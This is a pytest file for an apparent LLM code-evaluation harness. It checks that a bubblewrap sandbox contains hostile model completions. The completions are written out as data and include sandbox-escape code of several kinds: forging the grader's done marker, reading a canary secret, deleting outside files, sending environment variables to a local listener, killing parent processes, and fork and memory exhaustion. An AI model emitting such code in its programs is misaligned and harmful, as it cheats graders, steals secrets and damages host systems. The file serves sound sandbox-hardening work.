"""The attack battery (issue 14): hostile completions, end to end through `pingce run`.

An OpenAI-compatible server on 127.0.0.1 (tests/served/fault_server.py) replays each hostile
completion; every program's test is `assert False`, so the only correct pass@1 is 0. Honest
completions run in the same concurrent batch and must pass. After the run: every hostile
sample scored 0 with a recorded reason, the canary files and an unrelated database are
byte-for-byte unchanged, the API key and the canary secret appear nowhere in the store or the
reports, the listener the test runs saw no connection, pingce's peak RSS stayed bounded (500 MB
of program output included), no process is left behind, and the run completed.

Each row of docs/design/sandbox.md's attack table names the sample here that backs it.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from pingce.llm.sandbox.layers import HOST_UID_BASE

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None,
    reason="the attack battery needs bwrap: install the Debian package bubblewrap",
)

PINGCE = Path(sys.executable).with_name("pingce")
MARKER = "pingce_battery_leftover_9137"
HONEST = ("def add(a, b):\n    return a + b\n", "assert add(2, 3) == 5")


def _attacks(canary: Path, victim: Path, store: Path, other_db: Path, port: int) -> dict[str, str]:
    """Hostile completions by name (the test appended to each is `assert False`)."""
    sleeper = f"import time  # {MARKER}\\ntime.sleep(60)"
    return {
        "os_exit": "import os\nos._exit(0)",
        "sys_exit": "import sys\nsys.exit(0)",
        "raise_systemexit": "raise SystemExit(0)",
        "keyboard_interrupt": "raise KeyboardInterrupt",
        "atexit_exit": "import atexit, os\natexit.register(os._exit, 0)",
        "excepthook_exit": "import sys, os\nsys.excepthook = lambda *a: os._exit(0)",
        "signal_self": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        "forge_marker": (
            "import os\nos.write(1, b'\\n\\x1ePINGCE-DONE ' + os.urandom(32).hex().encode() + b'\\n')\n"
            "os._exit(0)"
        ),
        "frame_walk_nonce": (
            "import os, sys\nf = sys._getframe()\nfound = []\n"
            "while f is not None:\n"
            "    for v in list(f.f_locals.values()):\n"
            "        if isinstance(v, (bytes, str)) and 40 <= len(v) <= 200:\n"
            "            found.append(v if isinstance(v, bytes) else v.encode())\n"
            "    f = f.f_back\n"
            "for v in found:\n    os.write(1, v)\nos._exit(0)"
        ),
        "gc_scan_nonce": (
            "import gc, os\ntry:\n    objs = gc.get_objects()\nexcept Exception:\n    objs = []\n"
            "for o in objs:\n    if isinstance(o, bytes) and b'PINGCE-DONE' in o:\n"
            "        os.write(1, o)\nos._exit(0)"
        ),
        "settrace_skip": (
            "import sys\ntry:\n    sys.settrace(lambda *a: None)\nexcept Exception:\n    pass"
        ),
        "read_canary": f"print(open({str(canary)!r}).read())",
        "write_delete_outside": (
            "import os, shutil\n"
            f"for act in (lambda: open({str(canary.parent / 'planted.txt')!r}, 'w').write('x'),\n"
            f"            lambda: os.remove({str(victim)!r}),\n"
            f"            lambda: open({str(victim)!r}, 'w').write('overwritten'),\n"
            f"            lambda: shutil.rmtree({str(canary.parent)!r}),\n"
            "            lambda: open('/usr/pingce-planted', 'w').write('x'),\n"
            "            lambda: open('/etc/pingce-planted', 'w').write('x')):\n"
            "    try:\n        act()\n    except Exception as exc:\n        print(type(exc).__name__)"
        ),
        "overwrite_sibling": (
            "import glob\n"
            "for p in glob.glob('/tmp/**/program.py', recursive=True) + glob.glob('/*/program.py')"
            " + glob.glob('/tmp/pingce-*/program.py'):\n"
            "    try:\n        open(p, 'w').write('pass\\n')\n    except OSError:\n        pass"
        ),
        "socket_to_listener": (
            "import os, socket\n"
            f"s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
            "s.sendall(repr(dict(os.environ)).encode())"
        ),
        "proc_environ_cmdline": (
            "import glob, os\nleak = []\n"
            "for p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
            "    try:\n        leak.append(open(p, 'rb').read())\n    except OSError:\n        pass\n"
            "print(len(leak), os.environ)"
        ),
        "sqlite_store": (
            "import sqlite3\n"
            f"for path in ({str(store)!r}, {str(other_db)!r}):\n"
            "    try:\n"
            "        c = sqlite3.connect(path)\n"
            "        c.execute(\"update records set scores = '{}'\")\n"
            "        c.execute('drop table if exists canary')\n"
            "        c.commit()\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__, exc)"
        ),
        "kill_parent": (
            "import os, signal\n"
            "for pid in (os.getppid(), 1):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
            "os.kill(-1, signal.SIGKILL)"
        ),
        "double_fork_holds_pipe": (
            "import os, sys\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', '{sleeper}'])\n"
            "    os._exit(0)\n"
            "os._exit(0)"
        ),
        "fifty_forks": (
            "import os, time\nfor i in range(50):\n"
            "    if os.fork() == 0:\n        time.sleep(60)\n        os._exit(0)"
        ),
        "invalid_text_output": "import os\nos.write(1, b'\\xed\\xa0\\x80\\xff\\x00')\nprint('\\ud800')",
        "swallow_tests": '_ = """',
        "alloc_4gb": "x = bytearray(4 * 1024 ** 3)",
        "infinite_loop": "while True:\n    pass",
        "output_500mb": (
            "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(500):\n    sys.stdout.write(chunk)"
        ),
    }


EXPECTED_REASON = {
    "os_exit": "early_exit",
    "sys_exit": "early_exit",
    "raise_systemexit": "early_exit",
    "keyboard_interrupt": "early_exit",
    "signal_self": "early_exit",
    "forge_marker": "early_exit",
    "frame_walk_nonce": "early_exit",
    "gc_scan_nonce": "early_exit",
    "double_fork_holds_pipe": "early_exit",
    "alloc_4gb": "memory",
    "infinite_loop": "timeout",
    "output_500mb": "output_limit",
}


class Listener:
    """A TCP listener on 127.0.0.1 recording every connection and byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.seen: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.seen.append(conn.recv(65536))
            except OSError:
                self.seen.append(b"")
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _sandbox_uids_of(pid: int) -> range:
    start = HOST_UID_BASE + (pid % 20000) * 64
    return range(start, start + 64)


def _leftovers(pid: int) -> list[str]:
    """Processes of the pingce run's sandboxes (by uid block or marker) still alive."""
    uids = _sandbox_uids_of(pid)
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields.get("State", "").strip().startswith("Z"):
            continue  # exited, waiting to be reaped: nothing runs
        uid = int(fields["Uid"].split()[0])
        if uid in uids or MARKER.encode() in cmdline:
            found.append(f"{entry} {fields.get('State', '').strip()}: {cmdline[-120:]!r}")
    return found


def _gone(pid: int) -> bool:
    """No leftover of `pid`'s sandboxes, allowing the kernel a moment to finish SIGKILLs."""
    for _ in range(50):
        if not _leftovers(pid):
            return True
        time.sleep(0.1)
    return False


def _suite(tmp: Path, rows: list[dict[str, str]], workers: int = 4) -> Path:
    data = tmp / "rows.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    suite = tmp / "suite.yaml"
    suite.write_text(
        "standard: llm\nname: security/code-attacks\ntasks:\n"
        "  - id: attacks\n    type: code_generation\n"
        f"    dataset: {{path: {data}}}\n"
        "    prompt: '{{ prompt }}'\n"
        '    program: "{{ completion }}\\n\\n{{ test }}\\n"\n'
        f"    timeout_s: 2\n    memory_mb: 256\n    workers: {workers}\n"
        "    generation: {max_new_tokens: 4096, until: []}\n",
        encoding="utf-8",
    )
    return suite


def _rows(attacks: dict[str, str]) -> list[dict[str, str]]:
    rows = []
    for i, (name, code) in enumerate(attacks.items()):
        # The comment's quotes close a string a completion leaves open (`swallow_tests`).
        rows.append({"id": name, "prompt": f"<<{code}>>", "test": 'assert False  # """'})
        if i % 6 == 0:  # honest programs spread through the concurrent batch
            rows.append({"id": f"honest_{i}", "prompt": f"<<{HONEST[0]}>>", "test": HONEST[1]})
    return rows


def _peak_rss_kib(pid: int, stop: threading.Event, out: list[int]) -> None:
    while not stop.is_set():
        try:
            for line in Path(f"/proc/{pid}/status").read_text().splitlines():
                if line.startswith("VmHWM:"):
                    out.append(int(line.split()[1]))
        except OSError:
            return
        time.sleep(0.1)


def _pingce(args: list[str], env: dict[str, str], **kw: Any) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [str(PINGCE), *args], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True, **kw,
    )  # fmt: skip


def test_attack_battery_end_to_end(replay_server: Any, tmp_path: Path) -> None:
    secret = "canary-" + secrets.token_hex(12)
    api_key = "sk-battery-" + secrets.token_hex(12)
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    canary = private / "canary.txt"
    canary.write_text(secret)
    canary.chmod(0o600)
    victim = private / "victim.txt"
    victim.write_text("keep me")
    other_db = tmp_path / "other.db"
    with sqlite3.connect(other_db) as c:
        c.execute("create table canary (v text)")
        c.execute("insert into canary values ('intact')")
        c.execute("create table records (scores text)")
    c.close()
    before = {p: _digest(p) for p in (canary, victim, other_db)}
    store = tmp_path / "store.db"
    listener = Listener()
    attacks = _attacks(canary, victim, store, other_db, listener.port)
    suite = _suite(tmp_path, _rows(attacks))
    env = {**os.environ, "PINGCE_BATTERY_KEY": api_key}
    model = f"openai://127.0.0.1:{replay_server.port}/v1?model=fault-model"
    proc = _pingce(
        ["run", "--suite", str(suite), "--model", model, "--api-key-env", "PINGCE_BATTERY_KEY",
         "--db", str(store), "--report-dir", str(tmp_path / "reports"), "--quiet"],
        env,
    )  # fmt: skip
    stop, rss = threading.Event(), []
    watcher = threading.Thread(target=_peak_rss_kib, args=(proc.pid, stop, rss), daemon=True)
    watcher.start()
    try:
        output, _ = proc.communicate(timeout=300)
    finally:
        stop.set()
        listener.close()
    assert proc.returncode == 0, output[-3000:]

    # Scores: every hostile sample 0 with its reason; every honest one 1.
    with sqlite3.connect(store) as db:
        rows = db.execute("select sample_id, scores, data from records").fetchall()
    db.close()
    records = {sid: (json.loads(s), json.loads(d)) for sid, s, d in rows}
    assert set(records) == {r["id"] for r in _rows(attacks)}
    for sid, (scores, data) in records.items():
        reasons = [r["reason"] for r in data["results"]]
        assert data["isolation"].startswith("bwrap"), data["isolation"]
        if sid.startswith("honest_"):
            assert scores["pass@1"] == 1.0, (sid, data["results"])
        else:
            assert scores["pass@1"] == 0.0, (sid, reasons, data["results"])
            if sid in EXPECTED_REASON:
                assert reasons == [EXPECTED_REASON[sid]], (sid, data["results"])
            else:
                assert reasons == ["test_failed"], (sid, data["results"])
    assert records["output_500mb"][1]["results"][0]["truncated"] is True

    # Nothing outside the sandbox changed or leaked.
    assert {p: _digest(p) for p in before} == before
    assert not (private / "planted.txt").exists()
    assert not Path("/usr/pingce-planted").exists() and not Path("/etc/pingce-planted").exists()
    assert listener.seen == []
    leaked = [store.read_bytes()] + [
        p.read_bytes() for p in (tmp_path / "reports").rglob("*") if p.is_file()
    ]
    for blob in leaked:
        assert secret.encode() not in blob and api_key.encode() not in blob
    run = sqlite3.connect(store).execute("select status from runs").fetchall()
    assert run == [("completed",)]

    # pingce stayed small with 500 MB of program output, and nothing is left running.
    assert rss and max(rss) < 600 * 1024, f"peak RSS {max(rss)} KiB"
    assert _gone(proc.pid), _leftovers(proc.pid)
    report = json.loads(next((tmp_path / "reports").rglob("report.json")).read_text())
    assert any("Code execution for attacks: bwrap" in n for n in report["notes"]), report["notes"]


def test_interrupt_kills_running_programs(replay_server: Any, tmp_path: Path) -> None:
    """SIGINT while programs run: pingce ends and every sandbox with it, long before 60 s."""
    # The program execs a sleeper whose command line carries the marker, found in /proc here.
    sleeper = (
        "import os, sys\n"
        f"os.execv(sys.executable, [sys.executable, '-c', 'import time  # {MARKER}\\ntime.sleep(60)'])"
    )
    rows = [{"id": f"s{i}", "prompt": f"<<{sleeper}>>", "test": "pass"} for i in range(2)]
    suite = _suite(tmp_path, rows, workers=2)
    suite.write_text(suite.read_text().replace("timeout_s: 2", "timeout_s: 120"))
    model = f"openai://127.0.0.1:{replay_server.port}/v1?model=fault-model"
    proc = _pingce(
        ["run", "--suite", str(suite), "--model", model, "--db", str(tmp_path / "s.db"),
         "--no-report", "--quiet"],
        dict(os.environ),
    )  # fmt: skip
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        if len([p for p in _leftovers(proc.pid) if MARKER in p]) >= 2:
            break
        time.sleep(0.1)
    if proc.poll() is not None:  # say which layer ran, to tell a slow start from a wrong uid
        db = sqlite3.connect(tmp_path / "s.db")
        rows_seen = [
            json.loads(d).get("isolation") for (d,) in db.execute("select data from records")
        ]
        db.close()
        pytest.fail(
            f"pingce ended before its programs were seen: {rows_seen} {proc.stdout.read()[-500:]}"
        )
    proc.send_signal(signal.SIGINT)
    output, _ = proc.communicate(timeout=30)
    assert proc.returncode != 0
    assert _gone(proc.pid), (_leftovers(proc.pid), output[-2000:])


def test_no_isolation_refuses_unless_confirmed(replay_server: Any, tmp_path: Path) -> None:
    """Without a real layer, code tasks refuse with one error line; --allow-unsafe-code runs
    them and the report says so."""
    rows = [{"id": "h", "prompt": f"<<{HONEST[0]}>>", "test": HONEST[1]}]
    suite = _suite(tmp_path, rows, workers=1)
    model = f"openai://127.0.0.1:{replay_server.port}/v1?model=fault-model"
    base = ["run", "--suite", str(suite), "--model", model, "--db", str(tmp_path / "n.db"),
            "--report-dir", str(tmp_path / "reports"), "--quiet"]  # fmt: skip
    no_bwrap = {**os.environ, "PATH": str(tmp_path / "empty-bin")}
    for args, env in ((base, no_bwrap), ([*base, "--sandbox", "none"], dict(os.environ))):
        proc = _pingce(args, env)
        output, _ = proc.communicate(timeout=120)
        lines = output.strip().splitlines()
        assert proc.returncode == 2 and len(lines) == 1 and lines[0].startswith("error:"), output
        assert "bubblewrap" in lines[0] or "--allow-unsafe-code" in lines[0]
    proc = _pingce([*base, "--sandbox", "none", "--allow-unsafe-code"], dict(os.environ))
    output, _ = proc.communicate(timeout=120)
    assert proc.returncode == 0, output[-2000:]
    report = json.loads(next((tmp_path / "reports").rglob("report.json")).read_text())
    assert any(n.startswith("UNISOLATED") for n in report["notes"]), report["notes"]
